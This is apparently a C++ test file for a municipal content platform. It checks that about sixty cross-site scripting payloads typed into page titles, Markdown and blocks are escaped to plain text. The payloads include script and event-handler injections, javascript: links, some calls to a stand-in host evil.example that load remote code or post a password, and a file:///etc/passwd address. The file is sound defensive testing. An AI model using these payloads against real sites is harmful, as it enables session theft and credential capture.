// An editor who means harm: whatever is written into a content or a record stays text on every page that shows it.
#include "tests/support/browser.hpp"
#include "tests/support/catch.hpp"
#include "tests/support/markup_scan.hpp"

#include <array>

using namespace clocher;
using namespace clocher::test;

namespace {

// Each tries another door: elements, attributes, entities, Markdown, templates, encodings, mutation, dangling markup.
constexpr std::array attacks = {
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<p onmouseover=alert(1)>passez ici</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=mot-de-passe>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[lien](javascript:alert(1))",
    "[lien](JaVaScRiPt:alert(1))",
    "[lien](java\tscript:alert(1))",
    "[lien](&#106;avascript:alert(1))",
    "[lien](javascript&colon;alert(1))",
    "[lien](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[lien](vbscript:msgbox(1))",
    "[lien](//evil.example)",
    "[lien](https://evil.example\" onclick=alert(1) x=\")",
    "[lien](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![image](javascript:alert(1))",
    "![image](https://evil.example/pixel.gif)",
    "![\" onerror=\"alert(1)](/x.png)",
    "![image](/x.png \"\" onerror=alert(1) x=\"\")",
    "[lien](/page \"titre\" onmouseover=alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "{{{body_html}}} {{#title}}<script>{{/title}}",
    "{{=<% %>=}}<%{title}%>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E"
    "alert(1)\xEF\xBC\x9C/script\xEF\xBC\x9E",
    "\xE2\x80\xAE<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onclick='alert(1)",
    "javascript:alert(1)",
    "--></style></script><script>alert(1)</script>"};

constexpr std::array addresses = {"javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
                                  "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
                                  "//evil.example", "/\\evil.example", "https://", "ftp://evil.example", "blob:x",
                                  "https://evil.example/\" onclick=\"alert(1)"};

struct Newsroom {
  TestPlatform platform;
  Browser agent{platform};
  Browser reader{platform};

  Newsroom() {
    make_agent(*platform.tenant(), platform.now());
    sign_in(agent);
  }

  // Creates and publishes; the path of the page, "" when the town hall's own rules refuse it.
  std::string publish(const json::Object& content) {
    if (agent.json(http::Method::post, "/api/v1/contents", json::serialize(content)).status != 201) return "";
    const json::Object made = agent.body();
    const std::string target = "/api/v1/contents/" + std::to_string(made.at("id").as_int64());
    const json::Object revision{{"revision", made.at("revision")}};
    if (agent.json(http::Method::post, target + "/publish", json::serialize(revision)).status != 200) return "";
    const std::string url(agent.body().at("url").as_string());
    return url.substr(platform.origin().size());
  }
  void check(const std::string& path, std::string_view attack) {
    reader.get(path);
    INFO(path << " with " << attack);
    CHECK(reader.last().status == 200);
    CHECK(dangers_in(reader.page()) == std::vector<std::string>());
  }
};

json::Array all_blocks(std::string_view text, std::string_view address) {
  const std::string words(text), url(address);
  return {json::Object{{"type", "text"}, {"markdown", words}},
          json::Object{{"type", "text"}, {"body_markdown", words}},
          json::Object{{"type", "accordion"}, {"title", words}, {"items", json::Array{json::Object{{"title", words}, {"body_markdown", words}}}}},
          json::Object{{"type", "action"}, {"label", words}, {"url", url}}};
}

}  // namespace

TEST_CASE("the table of a hostile editor holds at least sixty attempts") { CHECK(attacks.size() >= 60); }

TEST_CASE("the scanner of dangers sees what it should") {
  CHECK(dangers_in("<p>2 < 3</p><a href=\"/x\">x</a>").empty());
  CHECK(dangers_in("<script>x</script>") == std::vector<std::string>{"element script"});
  CHECK(dangers_in("<p onclick=x>") == std::vector<std::string>{"attribute onclick"});
  CHECK(dangers_in("<a href='java\tscript:x'>").size() == 1);
  CHECK(dangers_in("<a href=\"&#106;avascript:x\">").size() == 1);
}

TEST_CASE("hostile titles, summaries and texts of pages and news are text") {
  Newsroom room;
  for (const char* attack : attacks) {
    for (const char* kind : {"page", "news"}) {
      const std::string path = room.publish({{"kind", kind}, {"section", "vivre-ici"}, {"title", std::string("Titre ") + attack},
                                             {"summary", attack}, {"body_markdown", attack}});
      if (!path.empty()) room.check(path, attack);
    }
  }
  for (const char* path : {"/", "/vivre-ici", "/actualites", "/plan-du-site"}) room.check(path, "all of them");
}

TEST_CASE("hostile blocks are text, and hostile addresses are refused or lose their target") {
  Newsroom room;
  std::size_t shown = 0;
  for (const char* attack : attacks) {
    for (const json::Value& block : all_blocks(attack, "https://exemple.fr/")) {
      const std::string path = room.publish({{"kind", "page"}, {"section", "vivre-ici"}, {"title", "Volets"}, {"summary", ""},
                                             {"body_markdown", "Texte."}, {"blocks", json::Array{block}}});
      if (path.empty()) continue;
      ++shown;
      room.check(path, attack);
    }
  }
  CHECK(shown > attacks.size());
  for (const char* address : addresses) {
    const std::string path = room.publish({{"kind", "page"}, {"section", "vivre-ici"}, {"title", "Lien"}, {"summary", ""}, {"body_markdown", "x"},
                                           {"blocks", json::Array{json::Object{{"type", "action"}, {"label", "Cliquez"}, {"url", address}}}}});
    if (!path.empty()) room.check(path, address);
  }
}

TEST_CASE("a hostile preview is as harmless as the page") {
  Newsroom room;
  for (const char* attack : attacks) {
    const json::Object content{{"kind", "news"}, {"title", attack}, {"summary", attack}, {"body_markdown", attack}};
    room.agent.json(http::Method::post, "/api/v1/contents/preview", json::serialize(content));
    if (room.agent.last().status != 200) continue;
    INFO(attack);
    CHECK(dangers_in(room.agent.page()) == std::vector<std::string>());
  }
}
